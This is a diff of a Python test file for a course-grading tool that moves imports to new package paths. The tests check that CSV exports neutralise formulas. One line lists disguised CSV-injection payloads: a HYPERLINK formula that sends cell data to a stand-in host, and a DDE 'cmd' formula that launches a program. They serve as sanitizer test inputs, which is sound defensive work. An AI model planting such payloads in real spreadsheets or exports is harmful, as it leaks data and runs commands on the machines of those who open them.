@@ -6,8 +6,8 @@ import unicodedata
 
 import pytest
 
-from course_grading import class_report as report
-from course_grading.results import ExerciseResult, SubmissionResult
+from course_grading.reports import class_report as report
+from course_grading.reports.results import ExerciseResult, SubmissionResult
 
 NIE = "NotImplementedError"
 ROWS = "AssertionError: each row should sum to 1 along dim=-1"
@@ -77,9 +77,9 @@ def _cells(path):
 
 
 def test_no_csv_cell_is_a_formula(tmp_path):
-    from course_grading.red_flags import Flag
-    from course_grading.reports_csv import FORMULA_START, safe_cell
-    from course_grading.results import write_csv, write_flags_csv
+    from course_grading.grading.red_flags import Flag
+    from course_grading.reports.reports_csv import FORMULA_START, safe_cell
+    from course_grading.reports.results import write_csv, write_flags_csv
 
     results = [SubmissionResult(EVIL[0], "03_attention", [
         ExerciseResult("test_softmax", 0, 2, EVIL[1]), ExerciseResult(EVIL[2], 1.5, 2, EVIL[3])],
@@ -104,9 +104,9 @@ DISGUISED = [" =HYPERLINK(\"http://x/?\"&A1)", "   +cmd|' /C calc'!A0", "\u3000=
 
 
 def test_a_formula_behind_spaces_or_in_a_wide_form_is_no_formula(tmp_path):
-    from course_grading.red_flags import Flag
-    from course_grading.reports_csv import safe_cell
-    from course_grading.results import write_csv, write_flags_csv
+    from course_grading.grading.red_flags import Flag
+    from course_grading.reports.reports_csv import safe_cell
+    from course_grading.reports.results import write_csv, write_flags_csv
 
     for text in DISGUISED:
         assert safe_cell(text) == "'" + text, text
@@ -124,8 +124,8 @@ def test_export_has_no_formula_and_says_what_is_not_a_grade(tmp_path):
     from nbgrader.api import Gradebook
 
     from conftest import make_course, tiny_notebook
-    from course_grading.feedback import export
-    from course_grading.reports_csv import FORMULA_START
+    from course_grading.reports.feedback import export
+    from course_grading.reports.reports_csv import FORMULA_START
 
     course = make_course(tmp_path / "course", {"01_tiny": tiny_notebook()})
     with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "attention-course") as gb:
@@ -147,9 +147,9 @@ def test_reports_are_written_whatever_the_text(tmp_path, capsys):
     reach: grades.csv, flags.csv, the class report (CSV and PNG) and the printed table are all
     written, as strict UTF-8, with each such character escaped and each text cut; every other
     row, and every other student's flag, is there."""
-    from course_grading.red_flags import Flag
-    from course_grading.reports_csv import MAX_TEXT, clean
-    from course_grading.results import format_flags, format_table, write_csv, write_flags_csv
+    from course_grading.grading.red_flags import Flag
+    from course_grading.reports.reports_csv import MAX_TEXT, clean
+    from course_grading.reports.results import format_flags, format_table, write_csv, write_flags_csv
 
     results = [SubmissionResult(text, "03_attention", [ExerciseResult("test_softmax", 0, 2, text),
                                                        ExerciseResult(text, 1, 1)],
